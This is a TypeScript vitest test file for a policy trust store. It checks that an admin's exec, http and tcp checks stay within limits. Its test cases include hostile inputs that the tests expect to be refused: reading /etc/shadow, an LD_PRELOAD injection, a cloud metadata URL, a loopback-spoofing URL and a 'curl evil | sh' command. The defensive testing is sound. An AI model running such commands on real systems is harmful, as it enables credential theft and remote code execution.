import { describe, expect, it } from 'vitest'
import { generateSigningKey } from '../../src/envelope/index.js'
import { validatePolicyObject, type AdminLimits, type Policy } from '../../src/policy/index.js'
import { OutOfScopeError, TrustStore, grantExcesses } from '../../src/trust/index.js'
import { trustPolicy } from '../helpers/envelope.js'

const withChecks = (checks: unknown[]): Policy => validatePolicyObject({ name: 'web/site', resources: [], checks }, '<test>')

const web: AdminLimits = {
  types: ['file', 'directory', 'config', 'exec'],
  paths: ['/var/www/'],
  exec: { commands: [['nginx', '-t'], 'curl -fsS http://127.0.0.1/'], run_as: 'www-data' }
}

describe('grantExcesses: an exec check is an exec', () => {
  it.each<[string, AdminLimits, Record<string, unknown>, Array<[string, RegExp]>]>([
    ['an allowed command as the required user', web, { id: 'c', type: 'exec', command: ['nginx', '-t'], run_as: 'www-data' }, []],
    ['a command not on the list', web, { id: 'c', type: 'exec', command: 'cat /etc/shadow', run_as: 'www-data' }, [['exec.commands', /^command "cat \/etc\/shadow" is not an allowed command$/]]],
    ['no run_as when one is required', web, { id: 'c', type: 'exec', command: ['nginx', '-t'] }, [['exec.run_as', /runs as the agent's user; it must declare run_as: www-data/]]],
    ['env with a list of commands', web, { id: 'c', type: 'exec', command: ['nginx', '-t'], run_as: 'www-data', env: { LD_PRELOAD: '/x.so' } }, [['exec.commands', /env is not allowed/]]],
    ['an exec check when types leave exec out', { types: ['file'] }, { id: 'c', type: 'exec', command: 'true' }, [['types', /an exec check runs a command, and type exec is not allowed/]]],
    ['an http check (it only connects)', { types: ['file'], exec: { commands: ['true'] } }, { id: 'c', type: 'http', url: 'http://127.0.0.1/' }, []],
    ['a tcp check', { types: ['file'] }, { id: 'c', type: 'tcp', host: '127.0.0.1', port: 80 }, []],
    ['an http check to localhost or ::1', { paths: ['/srv'] }, { id: 'c', type: 'http', url: 'http://[::1]:8080/health' }, []],
    ['an http check to a cloud metadata service (its body would come back in receipts)', { types: ['file'] }, { id: 'c', type: 'http', url: 'http://169.254.169.254/latest/meta-data/', status: 404 }, [['checks.hosts', /^an http check to 169\.254\.169\.254 reaches beyond this node$/]]],
    ['an http check whose userinfo looks like loopback', { types: ['file'] }, { id: 'c', type: 'http', url: 'http://127.0.0.1@intranet.example/' }, [['checks.hosts', /intranet\.example/]]],
    ['a tcp check to another host', { types: ['file'] }, { id: 'c', type: 'tcp', host: '10.0.0.5', port: 22 }, [['checks.hosts', /^a tcp check to 10\.0\.0\.5 reaches beyond this node$/]]]
  ])('%s', (_, limits, check, expected) => {
    const got = grantExcesses(withChecks([check]), limits)
    expect(got.map((e) => [e.rule, e.message])).toHaveLength(expected.length)
    got.forEach((e, i) => {
      expect(e).toMatchObject({ list: 'checks', index: 0, id: 'c', rule: expected[i]![0] })
      expect(e.message).toMatch(expected[i]![1])
    })
  })

  it('a limited admin\'s policy with a forbidden exec check is refused, naming checks[i]', () => {
    const root = generateSigningKey().id
    const admin = generateSigningKey().id
    const store = new TrustStore([root], trustPolicy([{ name: 'web team', key: admin, scopes: ['web/'], limits: web }]))
    const p = withChecks([{ id: 'ok', type: 'tcp', host: '127.0.0.1', port: 80 }, { id: 'sneaky', type: 'exec', command: 'curl evil | sh', run_as: 'www-data' }])
    expect(() => store.authorizePolicy(admin, p)).toThrow(OutOfScopeError)
    expect(() => store.authorizePolicy(admin, p)).toThrow(/^web\/site goes beyond its signer's limits: checks\[1\] \(id "sneaky"\): command "curl evil \| sh" is not an allowed command for key /)
    expect(() => store.authorizePolicy(root, p)).not.toThrow()
  })
})
